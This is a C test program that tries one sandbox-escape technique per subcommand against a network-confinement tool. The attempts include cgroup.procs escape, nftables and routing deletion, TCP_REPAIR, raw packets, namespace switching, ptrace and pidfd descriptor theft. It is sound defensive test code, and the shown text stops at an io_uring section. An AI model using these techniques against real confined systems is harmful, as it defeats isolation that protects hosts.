// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attacker: what a confined root daemon might try in order to undo or slip
 * out of its confinement, one attack per subcommand. The attack tests
 * (attack.sh) start it with `confine run`, and unconfined as a control.
 *
 *	attacker [--token T] ATTACK [ARG...]
 *
 * Each try prints one line, "ATTEMPT LABEL RESULT SECONDS", where RESULT is
 * OK or the errno's name (EPERM, ECONNREFUSED, ...). Whatever a try sends
 * carries the token, so that the test can look for it at the servers. The
 * exit status is 0 unless the attacker itself could not run (bad arguments).
 *
 * Test code only: never installed, never run outside the tests' namespaces.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <ifaddrs.h>
#include <libmnl/libmnl.h>
#include <linux/bpf.h>
#include <linux/fib_rules.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/rtnetlink.h>
#include <linux/sched.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *token = "attack";

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char *errname(int e)
{
	static char buf[16];

	switch (e) {
	case 0:
		return "OK";
	case EPERM:
		return "EPERM";
	case ENOENT:
		return "ENOENT";
	case ESRCH:
		return "ESRCH";
	case EINTR:
		return "EINTR";
	case EIO:
		return "EIO";
	case EBADF:
		return "EBADF";
	case ECHILD:
		return "ECHILD";
	case EAGAIN:
		return "EAGAIN";
	case ENOMEM:
		return "ENOMEM";
	case EACCES:
		return "EACCES";
	case EFAULT:
		return "EFAULT";
	case EBUSY:
		return "EBUSY";
	case EEXIST:
		return "EEXIST";
	case ENODEV:
		return "ENODEV";
	case ENOTDIR:
		return "ENOTDIR";
	case EINVAL:
		return "EINVAL";
	case EROFS:
		return "EROFS";
	case ENOSYS:
		return "ENOSYS";
	case ENOTSOCK:
		return "ENOTSOCK";
	case EOPNOTSUPP:
		return "EOPNOTSUPP";
	case EAFNOSUPPORT:
		return "EAFNOSUPPORT";
	case EPROTONOSUPPORT:
		return "EPROTONOSUPPORT";
	case EADDRNOTAVAIL:
		return "EADDRNOTAVAIL";
	case ENETUNREACH:
		return "ENETUNREACH";
	case ECONNREFUSED:
		return "ECONNREFUSED";
	case EHOSTUNREACH:
		return "EHOSTUNREACH";
	case ETIMEDOUT:
		return "ETIMEDOUT";
	case ESTALE:
		return "ESTALE";
	case ENOPROTOOPT:
		return "ENOPROTOOPT";
	case ENOTCONN:
		return "ENOTCONN";
	case ENETDOWN:
		return "ENETDOWN";
	case EDESTADDRREQ:
		return "EDESTADDRREQ";
	case ECONNRESET:
		return "ECONNRESET";
	}
	snprintf(buf, sizeof(buf), "E%d", e);
	return buf;
}

/* A system call's result as report() takes it: 0, or the errno. */
static int err_of(long r)
{
	return r < 0 ? errno : 0;
}

/* One line per try; err is 0 for success or a positive errno. */
static void report(const char *label, int err, double t0)
{
	printf("ATTEMPT %s %s %.3f\n", label, errname(err), now() - t0);
	fflush(stdout);
}

static void print_cgroup(void)
{
	char line[512];
	FILE *f = fopen("/proc/self/cgroup", "re");

	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "0::", 3) == 0)
			printf("SELF_CGROUP %s", line + 3);
	if (f)
		fclose(f);
	fflush(stdout);
}

static void usage(void)
{
	fprintf(stderr,
		"usage: attacker [--token T] ATTACK [ARG...]\n"
		"  send PROTO:HOST:PORT...            tcp or udp; HOST may be [v6]\n"
		"  tcp-repair tcp:HOST:PORT           data without a handshake\n"
		"  cgroup-escape CGROUP2_PATH DEST... write own PID to the root cgroup.procs, send\n"
		"  nft-delete                         delete confine's table, flush the ruleset\n"
		"  rtnl MARK MASK TABLE GATEWAY IFNAME  delete the rule, replace table T's routes\n"
		"  so-mark DEST MARK...               SO_MARK, then send to DEST\n"
		"  af-packet IFNAME DSTMAC SRC DST PORT  an IPv4/UDP frame through AF_PACKET\n"
		"  raw-ip SRC DST PORT                an IPv4/UDP packet through a raw socket\n"
		"  unshare                            new network (and user) namespaces\n"
		"  setns NSFILE [DEST]                join NSFILE's netns, then send to DEST\n"
		"  ptrace PID                         attach to, read or steal from PID\n"
		"  bpf                                load BPF programs\n"
		"  io-uring DEST...                   connect and send through io_uring\n"
		"  exec PROGRAM [ARG...]              show capabilities, then exec\n"
		"  exec-as UID PROGRAM [ARG...]       the same after setuid(UID)\n"
		"  ids                                show user IDs and capabilities\n"
		"  grandchild UID DEST...             fork, setuid(UID), fork, send\n"
		"  handle-of PATH                     name_to_handle_at: type and id\n"
		"  file-handle NAME:ID[:move]|scan:N|DEST...  open cgroups by handle\n"
		"  openat FD PATH [write-pid]         open PATH below descriptor FD\n"
		"  open-wronly PATH...                open for writing, write nothing\n"
		"  write PATH VALUE                   write VALUE to PATH\n"
		"  creds DEST...                      IDs, groups, caps; setuid(0); send\n"
		"  bind-device METHOD IFNAME DEST...  choose the output interface, send\n"
		"  with-fd [--netns F] KIND FD PROG [ARG...]  exec PROG holding KIND at FD\n"
		"  send-fd FD [DEST|MARK MASK TABLE]  use an inherited descriptor\n");
	exit(2);
}

/* --- addresses --- */

struct dest {
	char label[128];
	int proto; /* SOCK_STREAM or SOCK_DGRAM */
	struct sockaddr_storage ss;
	socklen_t len;
};

static bool parse_addr(const char *host, uint16_t port,
		       struct sockaddr_storage *ss, socklen_t *len)
{
	struct sockaddr_in *sin = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET, host, &sin->sin_addr) == 1) {
		sin->sin_family = AF_INET;
		sin->sin_port = htons(port);
		*len = sizeof(*sin);
		return true;
	}
	if (inet_pton(AF_INET6, host, &sin6->sin6_addr) == 1) {
		sin6->sin6_family = AF_INET6;
		sin6->sin6_port = htons(port);
		*len = sizeof(*sin6);
		return true;
	}
	return false;
}

/* PROTO:HOST:PORT, HOST an IPv4 address or a bracketed IPv6 one. */
static void parse_dest(const char *spec, struct dest *d)
{
	char buf[128], *host, *port;

	snprintf(d->label, sizeof(d->label), "%s", spec);
	snprintf(buf, sizeof(buf), "%s", spec);
	host = strchr(buf, ':');
	port = strrchr(buf, ':');
	if (!host || host == port)
		usage();
	*host++ = '\0';
	*port++ = '\0';
	if (*host == '[') {
		host++;
		host[strcspn(host, "]")] = '\0';
	}
	if (strcmp(buf, "tcp") == 0)
		d->proto = SOCK_STREAM;
	else if (strcmp(buf, "udp") == 0)
		d->proto = SOCK_DGRAM;
	else
		usage();
	if (!parse_addr(host, (uint16_t)atoi(port), &d->ss, &d->len))
		usage();
}

static int message(char *buf, size_t size, const char *label)
{
	return snprintf(buf, size, "<13>attack: %s %s\n", token, label);
}

/* Waits up to ms for fd to become writable (a non-blocking connect). */
static int wait_connected(int fd, int ms)
{
	struct pollfd p = { .fd = fd, .events = POLLOUT };
	int err = 0;
	socklen_t len = sizeof(err);

	if (poll(&p, 1, ms) <= 0)
		return ETIMEDOUT;
	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) < 0)
		return errno;
	return err;
}

/*
 * Sends one message to d from socket fd (made by the caller, so that an
 * attack can prepare it): a TCP connect and write, or a UDP datagram
 * followed by a moment's wait for an ICMP error to arrive.
 */
static int send_on(int fd, const struct dest *d)
{
	char msg[256];
	int n = message(msg, sizeof(msg), d->label), err;

	if (d->proto == SOCK_STREAM) {
		int fl = fcntl(fd, F_GETFL);

		fcntl(fd, F_SETFL, fl | O_NONBLOCK);
		if (connect(fd, (struct sockaddr *)&d->ss, d->len) < 0 &&
		    errno != EINPROGRESS)
			return errno;
		err = wait_connected(fd, 3000);
		if (err)
			return err;
		fcntl(fd, F_SETFL, fl);
		return write(fd, msg, n) == n ? 0 : errno;
	}
	if (connect(fd, (struct sockaddr *)&d->ss, d->len) < 0)
		return errno;
	if (send(fd, msg, n, 0) < 0)
		return errno;
	{
		struct pollfd p = { .fd = fd, .events = POLLERR };
		socklen_t len = sizeof(err);

		poll(&p, 1, 300);
		err = 0;
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
	}
	return err;
}

static int send_to(const struct dest *d)
{
	int fd = socket(d->ss.ss_family, d->proto | SOCK_CLOEXEC, 0), err;

	if (fd < 0)
		return errno;
	err = send_on(fd, d);
	close(fd);
	return err;
}

static void try_send(const char *prefix, const char *spec)
{
	struct dest d;
	char label[192];
	double t0 = now();

	parse_dest(spec, &d);
	snprintf(label, sizeof(label), "%s%s", prefix, spec);
	snprintf(d.label, sizeof(d.label), "%s", label);
	report(label, send_to(&d), t0);
}

static int attack_send(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		try_send("", argv[i]);
	return 0;
}

/* --- cgroup --- */

/*
 * The way out that cgroupfs offers: writing one's PID into the root
 * cgroup's cgroup.procs. Tried through the path the host uses, through
 * PID 1's root directory (a way around a private mount), and by mounting
 * cgroup2 afresh. Then holds still so that the test can read the
 * process's cgroup from outside.
 */
static void write_pid(const char *label, const char *path)
{
	char pid[32];
	double t0 = now();
	int fd = open(path, O_WRONLY | O_CLOEXEC), err = 0, n;

	n = snprintf(pid, sizeof(pid), "%d\n", getpid());
	if (fd < 0)
		err = errno;
	else if (write(fd, pid, n) != n)
		err = errno;
	if (fd >= 0)
		close(fd);
	report(label, err, t0);
}

static int attack_cgroup_escape(int argc, char **argv)
{
	char path[512];
	double t0;

	if (argc < 1)
		usage();
	snprintf(path, sizeof(path), "%s/cgroup.procs", argv[0]);
	write_pid("write-host-path-cgroup.procs", path);
	snprintf(path, sizeof(path), "%s/../cgroup.procs", argv[0]);
	write_pid("write-parent-of-mount-cgroup.procs", path);
	snprintf(path, sizeof(path), "/proc/1/root%s/cgroup.procs", argv[0]);
	write_pid("write-via-pid1-root-cgroup.procs", path);

	t0 = now();
	snprintf(path, sizeof(path), "/tmp/attacker-cg-%d", getpid());
	mkdir(path, 0700);
	if (mount("none", path, "cgroup2", 0, NULL) == 0) {
		char procs[600];

		report("mount-cgroup2", 0, t0);
		snprintf(procs, sizeof(procs), "%s/cgroup.procs", path);
		write_pid("write-fresh-mount-cgroup.procs", procs);
		umount2(path, MNT_DETACH);
	} else {
		report("mount-cgroup2", errno, t0);
	}
	rmdir(path);

	for (int i = 1; i < argc; i++)
		try_send("", argv[i]);
	print_cgroup();
	printf("HOLD\n");
	fflush(stdout);
	/* The test reads /proc/PID/cgroup now, then ends this process. */
	sleep(30);
	return 0;
}

/* --- netlink --- */

/*
 * Sends the messages in buf and reads the answers until the last
 * sequence number is acknowledged. Returns 0 or the first error.
 */
/*
 * The same on a netlink socket that is already open (an inherited one, for
 * instance, which keeps the credentials of whoever opened it).
 */
static int nl_talk_fd(int fd, const void *buf, size_t len, uint32_t last)
{
	char rbuf[MNL_SOCKET_BUFFER_SIZE];
	struct timeval tv = { .tv_sec = 2 };
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	int first_err = 0;

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (sendto(fd, buf, len, 0, (struct sockaddr *)&kernel,
		   sizeof(kernel)) < 0)
		return errno;
	for (int rounds = 0; rounds < 64; rounds++) {
		ssize_t n = recv(fd, rbuf, sizeof(rbuf), 0);
		struct nlmsghdr *h = (struct nlmsghdr *)rbuf;
		int left = (int)n;

		if (n < 0)
			return first_err ? first_err : errno;
		for (; mnl_nlmsg_ok(h, left); h = mnl_nlmsg_next(h, &left)) {
			if (h->nlmsg_type != NLMSG_ERROR)
				continue;
			const struct nlmsgerr *e = mnl_nlmsg_get_payload(h);

			if (e->error && !first_err)
				first_err = -e->error;
			if (h->nlmsg_seq == last || e->error)
				return first_err;
		}
	}
	return first_err;
}

static int nl_talk(int protocol, const void *buf, size_t len, uint32_t last)
{
	struct mnl_socket *nl = mnl_socket_open(protocol);
	int err;

	if (!nl)
		return errno;
	if (mnl_socket_bind(nl, 0, MNL_SOCKET_AUTOPID) < 0)
		err = errno;
	else
		err = nl_talk_fd(mnl_socket_get_fd(nl), buf, len, last);
	mnl_socket_close(nl);
	return err;
}

static struct nlmsghdr *nfnl_put(char *buf, uint16_t type, uint16_t flags,
				 uint8_t family, uint32_t seq, uint16_t res_id)
{
	struct nlmsghdr *h = mnl_nlmsg_put_header(buf);
	struct nfgenmsg *g;

	h->nlmsg_type = type;
	h->nlmsg_flags = NLM_F_REQUEST | flags;
	h->nlmsg_seq = seq;
	g = mnl_nlmsg_put_extra_header(h, sizeof(*g));
	g->nfgen_family = family;
	g->version = NFNETLINK_V0;
	g->res_id = htons(res_id);
	return h;
}

/* One nf_tables batch holding one NFT_MSG_DELTABLE. */
static int nft_deltable(uint8_t family, const char *name)
{
	char buf[4096];
	size_t off = 0;
	struct nlmsghdr *h;

	h = nfnl_put(buf, NFNL_MSG_BATCH_BEGIN, 0, AF_UNSPEC, 1,
		     NFNL_SUBSYS_NFTABLES);
	off += h->nlmsg_len;
	h = nfnl_put(buf + off, (NFNL_SUBSYS_NFTABLES << 8) | NFT_MSG_DELTABLE,
		     NLM_F_ACK, family, 2, 0);
	if (name)
		mnl_attr_put_strz(h, NFTA_TABLE_NAME, name);
	off += h->nlmsg_len;
	h = nfnl_put(buf + off, NFNL_MSG_BATCH_END, 0, AF_UNSPEC, 3,
		     NFNL_SUBSYS_NFTABLES);
	off += h->nlmsg_len;
	return nl_talk(NETLINK_NETFILTER, buf, off, 2);
}

static int attack_nft_delete(int argc, char **argv)
{
	double t0 = now();

	report("nft-delete-table-inet-confine",
	       nft_deltable(NFPROTO_INET, "confine"), t0);
	t0 = now();
	/* A DELTABLE without a name or family is `nft flush ruleset`. */
	report("nft-flush-ruleset", nft_deltable(NFPROTO_UNSPEC, NULL), t0);
	return 0;
}

/* An RTM_DELRULE of confine's rule into buf; returns its length. */
static size_t put_delrule(char *buf, int family, uint32_t mark, uint32_t mask,
			  uint32_t table)
{
	struct nlmsghdr *h = mnl_nlmsg_put_header(buf);
	struct fib_rule_hdr *r;

	h->nlmsg_type = RTM_DELRULE;
	h->nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	h->nlmsg_seq = 1;
	r = mnl_nlmsg_put_extra_header(h, sizeof(*r));
	r->family = family;
	r->action = FR_ACT_TO_TBL;
	mnl_attr_put_u32(h, FRA_FWMARK, mark);
	mnl_attr_put_u32(h, FRA_FWMASK, mask);
	mnl_attr_put_u32(h, FRA_TABLE, table);
	return h->nlmsg_len;
}

static int rtnl_delrule(int family, uint32_t mark, uint32_t mask,
			uint32_t table)
{
	char buf[1024];
	size_t len = put_delrule(buf, family, mark, mask, table);

	return nl_talk(NETLINK_ROUTE, buf, len, 1);
}

/* RTM_NEWROUTE (replace) or RTM_DELROUTE of table's IPv4 default. */
static int rtnl_default(uint16_t type, uint8_t rtype, uint32_t table,
			const char *gateway, const char *ifname)
{
	char buf[1024];
	struct nlmsghdr *h = mnl_nlmsg_put_header(buf);
	struct rtmsg *rt;
	struct in_addr gw;

	h->nlmsg_type = type;
	h->nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	if (type == RTM_NEWROUTE)
		h->nlmsg_flags |= NLM_F_CREATE | NLM_F_REPLACE;
	h->nlmsg_seq = 1;
	rt = mnl_nlmsg_put_extra_header(h, sizeof(*rt));
	rt->rtm_family = AF_INET;
	rt->rtm_table = RT_TABLE_UNSPEC;
	/* A delete matches any protocol when none is given. */
	rt->rtm_protocol = type == RTM_NEWROUTE ? RTPROT_STATIC : RTPROT_UNSPEC;
	rt->rtm_scope = RT_SCOPE_UNIVERSE;
	rt->rtm_type = rtype;
	mnl_attr_put_u32(h, RTA_TABLE, table);
	if (gateway && inet_pton(AF_INET, gateway, &gw) == 1)
		mnl_attr_put(h, RTA_GATEWAY, sizeof(gw), &gw);
	if (ifname)
		mnl_attr_put_u32(h, RTA_OIF, if_nametoindex(ifname));
	if (rtype == RTN_UNREACHABLE)
		mnl_attr_put_u32(h, RTA_PRIORITY, UINT32_MAX);
	return nl_talk(NETLINK_ROUTE, buf, h->nlmsg_len, 1);
}

static int attack_rtnl(int argc, char **argv)
{
	uint32_t mark, mask, table;
	double t0;

	if (argc != 5)
		usage();
	mark = strtoul(argv[0], NULL, 0);
	mask = strtoul(argv[1], NULL, 0);
	table = strtoul(argv[2], NULL, 0);
	t0 = now();
	report("rtnl-delete-rule-ipv4",
	       rtnl_delrule(AF_INET, mark, mask, table), t0);
	t0 = now();
	report("rtnl-delete-rule-ipv6",
	       rtnl_delrule(AF_INET6, mark, mask, table), t0);
	t0 = now();
	report("rtnl-replace-default-in-table-T",
	       rtnl_default(RTM_NEWROUTE, RTN_UNICAST, table, argv[3], argv[4]),
	       t0);
	t0 = now();
	report("rtnl-delete-unreachable-in-table-T",
	       rtnl_default(RTM_DELROUTE, RTN_UNREACHABLE, table, NULL, NULL),
	       t0);
	return 0;
}

/* --- sockets --- */

static int attack_so_mark(int argc, char **argv)
{
	struct dest d;

	if (argc < 2)
		usage();
	parse_dest(argv[0], &d);
	for (int i = 1; i < argc; i++) {
		uint32_t mark = strtoul(argv[i], NULL, 0);
		int fd = socket(d.ss.ss_family, d.proto | SOCK_CLOEXEC, 0);
		char label[192];
		double t0 = now();

		if (fd < 0)
			return 1;
		snprintf(label, sizeof(label), "setsockopt-SO_MARK=0x%x", mark);
		report(label,
		       err_of(setsockopt(fd, SOL_SOCKET, SO_MARK, &mark,
					 sizeof(mark))),
		       t0);
		/* Whatever the mark is now, try the destination with it. */
		snprintf(label, sizeof(label), "after-SO_MARK=0x%x:%s", mark,
			 argv[0]);
		snprintf(d.label, sizeof(d.label), "%s", label);
		t0 = now();
		report(label, send_on(fd, &d), t0);
		close(fd);
	}
	return 0;
}

/*
 * tcp-repair tcp:HOST:PORT: a TCP segment that is not a bare SYN, sent
 * without a handshake. confine lets such segments go on as answers of
 * connections that exist; TCP_REPAIR would let a process make one up:
 * connect() in repair mode sets the socket up as established without
 * sending anything, and after repair mode the data leaves as ACK|PSH.
 */
static int attack_tcp_repair(int argc, char **argv)
{
	int on = 1, off = 0, queue = TCP_SEND_QUEUE;
	unsigned seq = 1000;
	struct dest d;
	double t0 = now();
	int fd, err;

	if (argc != 1)
		usage();
	parse_dest(argv[0], &d);
	fd = socket(d.ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return 1;
	err = err_of(setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)));
	report("setsockopt-TCP_REPAIR", err, t0);
	if (err) {
		close(fd);
		return 0;
	}
	setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof(queue));
	setsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &seq, sizeof(seq));
	t0 = now();
	report("repair-connect",
	       err_of(connect(fd, (struct sockaddr *)&d.ss, d.len)), t0);
	setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off));
	t0 = now();
	report("repair-send", err_of(send(fd, token, strlen(token), 0)), t0);
	/* Give the segment time to leave before the socket goes. */
	usleep(200000);
	close(fd);
	return 0;
}

static uint16_t ip_checksum(const void *data, size_t len)
{
	const uint16_t *p = data;
	uint32_t sum = 0;

	for (; len > 1; len -= 2)
		sum += *p++;
	if (len)
		sum += *(const uint8_t *)p;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/*
 * An IPv4/UDP packet from src to dst:port carrying the message. The UDP
 * checksum is 0 ("none"), which IPv4 receivers accept. Returns its length.
 */
static size_t build_udp4(uint8_t *buf, size_t size, const char *src,
			 const char *dst, uint16_t port, const char *label)
{
	struct iphdr *ip = (struct iphdr *)buf;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	char *payload = (char *)(udp + 1);
	int n = message(payload, size - sizeof(*ip) - sizeof(*udp), label);

	memset(buf, 0, sizeof(*ip) + sizeof(*udp));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons(sizeof(*ip) + sizeof(*udp) + n);
	inet_pton(AF_INET, src, &ip->saddr);
	inet_pton(AF_INET, dst, &ip->daddr);
	ip->check = ip_checksum(ip, sizeof(*ip));
	udp->source = htons(40000);
	udp->dest = htons(port);
	udp->len = htons(sizeof(*udp) + n);
	return sizeof(*ip) + sizeof(*udp) + n;
}

/* Sends a packet made by hand on fd, reports, and closes fd. */
static void send_crafted(int fd, const char *label, const void *pkt, size_t len,
			 const void *to, socklen_t to_len)
{
	double t0 = now();

	report(label, err_of(sendto(fd, pkt, len, 0, to, to_len)), t0);
	close(fd);
}

static int attack_af_packet(int argc, char **argv)
{
	static const struct {
		const char *label;
		int type;
	} kinds[] = {
		{ "socket-AF_PACKET-SOCK_RAW", SOCK_RAW },
		{ "socket-AF_PACKET-SOCK_DGRAM", SOCK_DGRAM },
	};
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_halen = ETH_ALEN };
	unsigned mac[ETH_ALEN];
	uint8_t frame[1500];

	if (argc != 5 || sscanf(argv[1], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1],
				&mac[2], &mac[3], &mac[4], &mac[5]) != 6)
		usage();
	for (int i = 0; i < ETH_ALEN; i++)
		ll.sll_addr[i] = (uint8_t)mac[i];
	ll.sll_ifindex = (int)if_nametoindex(argv[0]);
	for (size_t k = 0; k < 2; k++) {
		double t0 = now();
		int fd = socket(AF_PACKET, kinds[k].type | SOCK_CLOEXEC,
				htons(ETH_P_ALL));
		char label[192];
		size_t len;

		report(kinds[k].label, err_of(fd), t0);
		if (fd < 0)
			continue;
		snprintf(label, sizeof(label), "%s-frame-to:%s:%s",
			 kinds[k].label, argv[3], argv[4]);
		if (kinds[k].type == SOCK_RAW) {
			/* Ethernet header: destination, source, type. */
			struct ifreq ifr = { 0 };

			snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s",
				 argv[0]);
			ioctl(fd, SIOCGIFHWADDR, &ifr);
			memcpy(frame, ll.sll_addr, ETH_ALEN);
			memcpy(frame + ETH_ALEN, ifr.ifr_hwaddr.sa_data,
			       ETH_ALEN);
			frame[12] = 0x08;
			frame[13] = 0x00;
			len = ETH_HLEN + build_udp4(frame + ETH_HLEN,
						    sizeof(frame) - ETH_HLEN,
						    argv[2], argv[3],
						    (uint16_t)atoi(argv[4]),
						    label);
		} else {
			len = build_udp4(frame, sizeof(frame), argv[2], argv[3],
					 (uint16_t)atoi(argv[4]), label);
		}
		send_crafted(fd, label, frame, len, &ll, sizeof(ll));
	}
	return 0;
}

static int attack_raw_ip(int argc, char **argv)
{
	static const struct {
		const char *label;
		int protocol;
	} kinds[] = {
		{ "socket-AF_INET-SOCK_RAW-IPPROTO_RAW", IPPROTO_RAW },
		{ "socket-AF_INET-SOCK_RAW-IPPROTO_UDP", IPPROTO_UDP },
	};
	struct sockaddr_storage ss;
	socklen_t sslen;
	uint8_t pkt[1500];

	if (argc != 3 || !parse_addr(argv[1], 0, &ss, &sslen))
		usage();
	for (size_t k = 0; k < 2; k++) {
		double t0 = now();
		int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC,
				kinds[k].protocol);
		int on = 1;
		char label[192];
		size_t len;

		report(kinds[k].label, err_of(fd), t0);
		if (fd < 0)
			continue;
		setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on));
		snprintf(label, sizeof(label), "%s-packet-to:%s:%s",
			 kinds[k].label, argv[1], argv[2]);
		len = build_udp4(pkt, sizeof(pkt), argv[0], argv[1],
				 (uint16_t)atoi(argv[2]), label);
		send_crafted(fd, label, pkt, len, &ss, sslen);
	}
	return 0;
}

/* --- namespaces --- */

static int attack_unshare(int argc, char **argv)
{
	static const struct {
		const char *label;
		int flags;
	} kinds[] = {
		{ "unshare-CLONE_NEWNET", CLONE_NEWNET },
		{ "unshare-CLONE_NEWUSER", CLONE_NEWUSER },
		{ "unshare-CLONE_NEWUSER|CLONE_NEWNET",
		  CLONE_NEWUSER | CLONE_NEWNET },
	};

	/* In a child each, so that a success does not change this process. */
	for (size_t k = 0; k < 3; k++) {
		double t0 = now();
		int status = 0;
		pid_t pid = fork();

		if (pid == 0)
			_exit(err_of(unshare(kinds[k].flags)));
		waitpid(pid, &status, 0);
		report(kinds[k].label, WEXITSTATUS(status), t0);
	}
	{
		double t0 = now();
		long pid = syscall(SYS_clone, CLONE_NEWNET | SIGCHLD, NULL,
				   NULL, NULL, NULL);

		if (pid == 0)
			_exit(0);
		if (pid > 0)
			waitpid((pid_t)pid, NULL, 0);
		report("clone-CLONE_NEWNET", err_of(pid), t0);
	}
	{
		struct clone_args ca = { .flags = CLONE_NEWNET,
					 .exit_signal = SIGCHLD };
		double t0 = now();
		long pid = syscall(SYS_clone3, &ca, sizeof(ca));

		if (pid == 0)
			_exit(0);
		if (pid > 0)
			waitpid((pid_t)pid, NULL, 0);
		report("clone3-CLONE_NEWNET", err_of(pid), t0);
	}
	return 0;
}

/*
 * Joins the network namespace of NSFILE. For PID 1's (the host's) the
 * attacker stops right there, success or not: it never sends anything in
 * a namespace that the tests do not own. With DEST, given only for a test
 * namespace, it then sends to DEST from there.
 */
static int attack_setns(int argc, char **argv)
{
	char label[256];
	double t0 = now();
	int fd, err;

	if (argc < 1 || argc > 2)
		usage();
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	snprintf(label, sizeof(label), "open-%s", argv[0]);
	report(label, err_of(fd), t0);
	if (fd < 0)
		return 0;
	t0 = now();
	err = err_of(setns(fd, CLONE_NEWNET));
	snprintf(label, sizeof(label), "setns-%s", argv[0]);
	report(label, err, t0);
	if (!err && argc == 2)
		try_send("after-setns:", argv[1]);
	return 0;
}

/* --- ptrace --- */

static int attack_ptrace(int argc, char **argv)
{
	pid_t pid;
	char path[64], buf[16];
	double t0;
	long r;
	int fd;

	if (argc != 1)
		usage();
	pid = (pid_t)atoi(argv[0]);

	t0 = now();
	r = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	report("ptrace-PTRACE_SEIZE", err_of(r), t0);
	if (r == 0) {
		/* Only a stopped tracee can be detached, so stop it first. */
		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	t0 = now();
	r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
	report("ptrace-PTRACE_ATTACH", err_of(r), t0);
	if (r == 0) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}

	{
		struct iovec local = { buf, sizeof(buf) };
		struct iovec remote = { (void *)0x400000, sizeof(buf) };

		t0 = now();
		r = process_vm_readv(pid, &local, 1, &remote, 1, 0);
		/* EFAULT means the call was allowed: only the address is bad.
		 */
		report("process_vm_readv", err_of(r), t0);
	}

	t0 = now();
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	report("open-/proc/PID/mem", err_of(fd), t0);
	if (fd >= 0)
		close(fd);

	t0 = now();
	snprintf(path, sizeof(path), "/proc/%d/root/", pid);
	fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	report("open-/proc/PID/root", err_of(fd), t0);
	if (fd >= 0)
		close(fd);

	t0 = now();
	fd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (fd < 0) {
		report("pidfd_getfd", errno, t0);
	} else {
		int stolen = (int)syscall(SYS_pidfd_getfd, fd, 0, 0);

		report("pidfd_getfd", err_of(stolen), t0);
		if (stolen >= 0)
			close(stolen);
		close(fd);
	}
	return 0;
}

/* --- bpf --- */

static int prog_load(enum bpf_prog_type type, enum bpf_attach_type attach)
{
	/* r0 = 1; exit: the smallest valid program. */
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = type;
	attr.expected_attach_type = attach;
	attr.insns = (uintptr_t)insns;
	attr.insn_cnt = 2;
	attr.license = (uintptr_t) "GPL";
	fd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
	if (fd < 0)
		return errno;
	close(fd);
	return 0;
}

static int attack_bpf(int argc, char **argv)
{
	union bpf_attr attr;
	double t0 = now();

	report("bpf-load-socket-filter",
	       prog_load(BPF_PROG_TYPE_SOCKET_FILTER, 0), t0);
	t0 = now();
	report("bpf-load-cgroup-sock",
	       prog_load(BPF_PROG_TYPE_CGROUP_SOCK,
			 BPF_CGROUP_INET_SOCK_CREATE),
	       t0);
	/* Finding confine's programs is the first step to detaching them. */
	memset(&attr, 0, sizeof(attr));
	t0 = now();
	report("bpf-prog-get-next-id",
	       err_of(syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &attr,
			      sizeof(attr))),
	       t0);
	return 0;
}

/* --- io_uring --- */

